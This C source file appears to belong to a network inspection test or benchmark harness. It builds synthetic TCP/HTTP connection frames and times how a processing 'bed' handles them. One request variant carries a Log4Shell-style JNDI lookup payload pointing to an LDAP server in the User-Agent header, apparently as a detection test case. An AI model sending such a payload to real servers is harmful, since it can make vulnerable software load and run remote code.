// SPDX-License-Identifier: GPL-2.0-or-later
// See connections.h.
#include "connections.h"
#include "log.h"
#include "measure.h"
#include "segments.h"

#include <stdlib.h>

#define GET_HEAD "GET /catalogue/42/item-4711?page=1 HTTP/1.1\r\nHost: www.service.example\r\nUser-Agent: "
#define GET_TAIL "\r\nAccept: text/html,application/json\r\nConnection: close\r\n\r\n"
#define ANSWER \
	"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 52\r\nConnection: close\r\n\r\n" \
	"<!DOCTYPE html><html><body>an item</body></html>\r\n\r\n"

static const char GET[] = GET_HEAD "curl/7.74.0" GET_TAIL;
static const char GET_LOOK_UP[] = GET_HEAD "${jndi:ldap://203.0.113.9:1389/a}" GET_TAIL;

enum says { NOTHING, REQUEST, REPLY };

static const struct {
	enum segment_side from;
	uint8_t flags;
	uint8_t past_syn[2]; // of sequence and acknowledgement numbers: 0 before the SYN, 1 behind it
	uint8_t past_data[2];
	uint8_t past_fin[2];
	enum says says;
} STEPS[CONNECTION_STEPS] = {
	[STEP_SYN] = {SEGMENT_FROM_CLIENT, TCP_SYN, {0, 0}, {0, 0}, {0, 0}, NOTHING},
	[STEP_SYN_ACK] = {SEGMENT_FROM_SERVER, TCP_SYN | TCP_ACK, {0, 1}, {0, 0}, {0, 0}, NOTHING},
	[STEP_ACK] = {SEGMENT_FROM_CLIENT, TCP_ACK, {1, 1}, {0, 0}, {0, 0}, NOTHING},
	[STEP_REQUEST] = {SEGMENT_FROM_CLIENT, TCP_PSH | TCP_ACK, {1, 1}, {0, 0}, {0, 0}, REQUEST},
	[STEP_REQUEST_ACK] = {SEGMENT_FROM_SERVER, TCP_ACK, {1, 1}, {0, 1}, {0, 0}, NOTHING},
	[STEP_ANSWER] = {SEGMENT_FROM_SERVER, TCP_PSH | TCP_ACK, {1, 1}, {0, 1}, {0, 0}, REPLY},
	[STEP_ANSWER_ACK] = {SEGMENT_FROM_CLIENT, TCP_ACK, {1, 1}, {1, 1}, {0, 0}, NOTHING},
	[STEP_CLIENT_FIN] = {SEGMENT_FROM_CLIENT, TCP_FIN | TCP_ACK, {1, 1}, {1, 1}, {0, 0}, NOTHING},
	[STEP_SERVER_FIN] = {SEGMENT_FROM_SERVER, TCP_FIN | TCP_ACK, {1, 1}, {1, 1}, {0, 1}, NOTHING},
	[STEP_LAST_ACK] = {SEGMENT_FROM_CLIENT, TCP_ACK, {1, 1}, {1, 1}, {1, 1}, NOTHING},
};

struct frame connection_frame(uint8_t *out, uint32_t number, enum connection_step step, bool look_up)
{
	struct bytes request = {(const uint8_t *)(look_up ? GET_LOOK_UP : GET),
				look_up ? sizeof(GET_LOOK_UP) - 1 : sizeof(GET) - 1};
	struct bytes answer = {(const uint8_t *)ANSWER, sizeof(ANSWER) - 1}, none = {NULL, 0};
	bool up = STEPS[step].from == SEGMENT_FROM_CLIENT;
	size_t mine = up ? request.left : answer.left, other = up ? answer.left : request.left;
	struct segment_plan plan = {
		.flow = number,
		.port = 80,
		.from = STEPS[step].from,
		.flags = STEPS[step].flags,
		.seq = (uint32_t)(STEPS[step].past_syn[0] + STEPS[step].past_data[0] * mine + STEPS[step].past_fin[0]),
		.ack = (uint32_t)(STEPS[step].past_syn[1] + STEPS[step].past_data[1] * other + STEPS[step].past_fin[1]),
		.data = STEPS[step].says == REQUEST ? request : STEPS[step].says == REPLY ? answer : none,
	};
	uint32_t n = segment_fill(out, &plan);

	return (struct frame){.at = out, .bytes = n, .wire_bytes = n, .port = up, .link = LINK_ETHERNET};
}

void connections_make(struct connections *c, struct bed *bed, uint64_t now_ns, uint64_t step_ns)
{
	uint8_t *arena = c->arena;

	*c = (struct connections){
		.bed = bed, .arena = arena, .wave = WAVE_DEFAULT, .now_ns = now_ns, .step_ns = step_ns};
	if (!arena && !(c->arena = malloc((size_t)c->wave * CONNECTION_STRIDE)))
		log_fatal("out of memory");
}

static void stretch(struct connections *c, struct frame *f, uint32_t n, struct meter *m)
{
	for (uint32_t i = 0; i < n; i++) {
		f[i].unix_ns = c->now_ns += c->step_ns;
		c->bytes += f[i].bytes;
	}
	if (m)
		meter_start(m);
	for (uint32_t i = 0; i < n; i += BED_BURST)
		bed_burst(c->bed, f + i, n - i < BED_BURST ? n - i : BED_BURST, f[i].unix_ns, c->actions, NULL);
	if (m)
		meter_stop(m);
	bed_drain(c->bed, NULL, NULL);
	c->frames += n;
}

static void step_of_all(struct connections *c, uint32_t first, uint32_t count, enum connection_step step,
			struct meter *m)
{
	static struct frame frames[WAVE_DEFAULT];
	enum { STRETCH = 1024 };

	for (uint32_t i = 0; i < count; i++)
		frames[i] = connection_frame(c->arena + (size_t)i * CONNECTION_STRIDE, first + i, step, c->look_up);
	for (uint32_t i = 0; i < count; i += STRETCH)
		stretch(c, frames + i, count - i < STRETCH ? count - i : STRETCH, m);
}

void connections_run(struct connections *c, uint32_t first, uint32_t count, enum connection_step from,
		     enum connection_step before, struct meter *m)
{
	for (uint32_t i = 0; i < count; i += c->wave)
		for (unsigned step = from; step < before; step++)
			step_of_all(c, first + i, count - i < c->wave ? count - i : c->wave, (enum connection_step)step,
				    m);
}
